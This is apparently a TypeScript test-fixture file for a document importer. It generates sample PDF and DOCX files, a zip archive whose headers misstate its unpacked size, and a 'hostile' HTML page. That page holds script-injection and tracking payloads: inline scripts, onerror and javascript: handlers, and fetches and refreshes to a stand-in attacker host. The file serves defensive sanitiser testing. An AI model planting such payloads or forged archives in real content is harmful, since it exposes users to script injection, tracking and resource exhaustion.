import { PDFDocument, StandardFonts } from 'pdf-lib';
import { Document, HeadingLevel, Packer, Paragraph } from 'docx';
import { zipSync } from 'fflate';

// Real files of each imported format, made by the libraries other programs use to write them, so
// the importers are tested on what researchers will actually feed them.

export interface PdfPage {
  /** Lines drawn top to bottom; an empty string leaves a blank line (a paragraph gap). */
  lines: string[];
}

export async function makePdf(
  pages: PdfPage[],
  info: { title?: string; author?: string; created?: Date } = {},
): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  if (info.title) pdf.setTitle(info.title);
  if (info.author) pdf.setAuthor(info.author);
  if (info.created) pdf.setCreationDate(info.created);
  const font = await pdf.embedFont(StandardFonts.TimesRoman);
  pages.forEach((p, i) => {
    const page = pdf.addPage([600, 800]);
    let y = 750;
    for (const line of p.lines) {
      if (line) page.drawText(line, { x: 50, y, size: 12, font });
      y -= 16;
    }
    // A running footer with the page number, as real documents have.
    page.drawText(String(i + 1), { x: 300, y: 30, size: 10, font });
  });
  return pdf.save();
}

export async function makeDocx(info: { title?: string; creator?: string } = {}): Promise<Uint8Array> {
  const doc = new Document({
    title: info.title,
    creator: info.creator ?? 'Glossa tests',
    sections: [
      {
        children: [
          new Paragraph({ text: 'Border security', heading: HeadingLevel.HEADING_1 }),
          new Paragraph({ text: 'Talks were held in Moscow.' }),
          new Paragraph({ text: 'Details', heading: HeadingLevel.HEADING_2 }),
          new Paragraph({ text: 'First point', bullet: { level: 0 } }),
          new Paragraph({ text: 'Second point', bullet: { level: 0 } }),
        ],
      },
    ],
  });
  return new Uint8Array(await Packer.toBuffer(doc));
}

/** A zip whose directory claims an entry expands to `claimed` bytes: a zip bomb, as far as a reader can tell. */
/**
 * A zip bomb that lies: `name` holds `inflated` bytes of zeros (a few kilobytes packed), while both
 * its local header and the central directory declare `declared` bytes unpacked.
 */
export function makeLyingZip(name: string, inflated: number, declared = 2048): Uint8Array {
  const zip = zipSync({ [name]: new Uint8Array(inflated) }, { level: 9 });
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  for (let i = 0; i + 4 <= zip.length; i++) {
    const signature = view.getUint32(i, true);
    if (signature === 0x02014b50) view.setUint32(i + 24, declared, true);
    if (signature === 0x04034b50) view.setUint32(i + 22, declared, true);
  }
  return zip;
}

/** A page trying every way HTML can run code, fetch something or restyle the app. */
export const HOSTILE_HTML = `<!doctype html>
<html><head>
<title>Hostile page</title>
<meta http-equiv="refresh" content="0; url=http://attacker.invalid/refresh">
<link rel="stylesheet" href="http://attacker.invalid/style.css">
<style>body { background: url(http://attacker.invalid/bg.png) } * { display: none }</style>
<script>window.__pwned = 'head script'; fetch('http://attacker.invalid/script');</script>
<base href="http://attacker.invalid/">
</head>
<body onload="window.__pwned = 'onload'">
<nav>Home | About</nav>
<article>
<h1>Report on border security</h1>
<p>First paragraph <img src="http://attacker.invalid/pixel.png" onerror="window.__pwned = 'onerror'"> of the report.</p>
<p style="background-image: url(http://attacker.invalid/inline.png)">Second <a href="javascript:window.__pwned='link'">paragraph</a> with a link.</p>
<iframe src="http://attacker.invalid/frame"></iframe>
<object data="http://attacker.invalid/object"></object>
<svg><script>window.__pwned = 'svg'</script><image href="http://attacker.invalid/svg.png"/></svg>
<form action="http://attacker.invalid/form"><input name="q" value="typed"><button>Send</button></form>
<video src="http://attacker.invalid/video.mp4" poster="http://attacker.invalid/poster.png"></video>
<p><a href="http://example.org/ok">A normal link</a> ends the article.</p>
<script>window.__pwned = 'body script'</script>
<noscript><img src="http://attacker.invalid/noscript.png"></noscript>
</article>
</body></html>
`;
